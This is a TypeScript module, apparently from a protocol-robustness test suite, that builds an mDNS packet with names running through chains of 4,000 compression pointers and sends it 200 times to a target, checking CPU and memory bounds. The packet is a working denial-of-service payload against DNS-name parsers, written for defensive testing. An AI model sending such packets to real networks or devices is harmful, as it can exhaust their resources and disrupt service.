import type { Attack } from "../attack.ts";
import { LinkPeer, mdnsEnvironment } from "../wire/mdns.ts";

const headerBytes = 12;
const records = 400;
const pointers = 4_000;
/** Of a record whose name is a pointer and that has an IPv4 address. */
const recordBytes = 16;

/**
 * Names that each lead through a chain of compression pointers, which is the text of a record
 * before them.
 */
function chained(): Buffer {
  const chain = headerBytes + 11;
  const begin = chain + pointers * 2;
  const packet = Buffer.alloc(begin + records * recordBytes);
  packet.writeUInt16BE(0x8400, 2);
  packet.writeUInt16BE(records + 1, 6);
  // Each pointer leads to the one before, the first to a name without labels. NULL records may hold
  // anything.
  packet.writeUInt16BE(10, headerBytes + 1);
  packet.writeUInt16BE(1, headerBytes + 3);
  packet.writeUInt16BE(pointers * 2, headerBytes + 9);
  for (let at = 0; at < pointers; at++)
    packet.writeUInt16BE(0xc000 | (at === 0 ? headerBytes : chain + 2 * (at - 1)), chain + 2 * at);
  for (let at = 0; at < records; at++) {
    const record = begin + at * recordBytes;
    packet.writeUInt16BE(0xc000 | (chain + 2 * (pointers - 1)), record);
    packet.writeUInt16BE(1, record + 2);
    packet.writeUInt16BE(1, record + 4);
    packet.writeUInt16BE(4, record + 10);
  }
  return packet;
}

export const attack: Attack = {
  protocol: "mDNS",
  description: "names that lead through chains of 4,000 compression pointers",
  bounds: { cpuMsPerMB: 300, heldPerByte: 4 },
  environment: mdnsEnvironment,
  async run(target) {
    await using peer = await LinkPeer.join(target);
    const packet = chained();
    await peer.send(Array.from({ length: 200 }, () => packet));
  },
};
